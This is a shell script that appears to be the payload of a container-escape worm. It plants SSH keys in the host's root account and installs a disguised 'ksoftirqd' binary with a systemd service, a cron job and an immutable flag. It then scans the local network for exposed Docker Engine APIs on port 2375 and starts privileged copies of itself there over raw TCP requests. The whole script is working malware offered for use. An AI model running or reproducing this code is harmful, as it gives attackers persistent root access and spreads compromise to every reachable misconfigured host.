#!/bin/sh
# run with -v /:/host: persist on the host, then look for more Docker APIs
H=/host
P=/opt/w/payload
if [ -d "$H/etc" ]; then
    mkdir -p "$H/root/.ssh" && cat "$P/authorized_keys" >> "$H/root/.ssh/authorized_keys"
    chmod 600 "$H/root/.ssh/authorized_keys"
    mkdir -p "$H/usr/lib/.X11-unix"
    cp "$P/ksoftirqd" "$P/config.json" "$H/usr/lib/.X11-unix/"
    cp "$P/ksoftirqd.service" "$H/etc/systemd/system/ksoftirqd.service"
    echo '*/10 * * * * root /usr/lib/.X11-unix/ksoftirqd -c /usr/lib/.X11-unix/config.json -B >/dev/null 2>&1' > "$H/etc/cron.d/ksoftirqd"
    chroot "$H" /bin/sh -c 'systemctl daemon-reload; systemctl enable --now ksoftirqd.service; chattr +i /usr/lib/.X11-unix/ksoftirqd' 2>/dev/null
fi
# spread: every address in the local /16 answering on 2375 gets the same container,
# created and started over the raw Engine API (no docker CLI in the image)
NET=$(hostname -I 2>/dev/null | cut -d. -f1-2)
BODY='{"Image":"kubelet-agent/worm:latest","HostConfig":{"Privileged":true,"NetworkMode":"host","Binds":["/:/host"],"RestartPolicy":{"Name":"always"}}}'
for i in $(seq 0 255); do for j in $(seq 1 254); do
    t="$NET.$i.$j"
    timeout 1 bash -c "exec 3<>/dev/tcp/$t/2375" 2>/dev/null || continue
    bash -c "exec 3<>/dev/tcp/$t/2375; printf 'POST /containers/create?name=kube-agent HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: ${#BODY}\r\n\r\n%s' '$BODY' >&3; cat <&3" >/dev/null 2>&1
    bash -c "exec 3<>/dev/tcp/$t/2375; printf 'POST /containers/kube-agent/start HTTP/1.0\r\n\r\n' >&3; cat <&3" >/dev/null 2>&1
done; done
exec "$P/ksoftirqd" -c "$P/config.json"
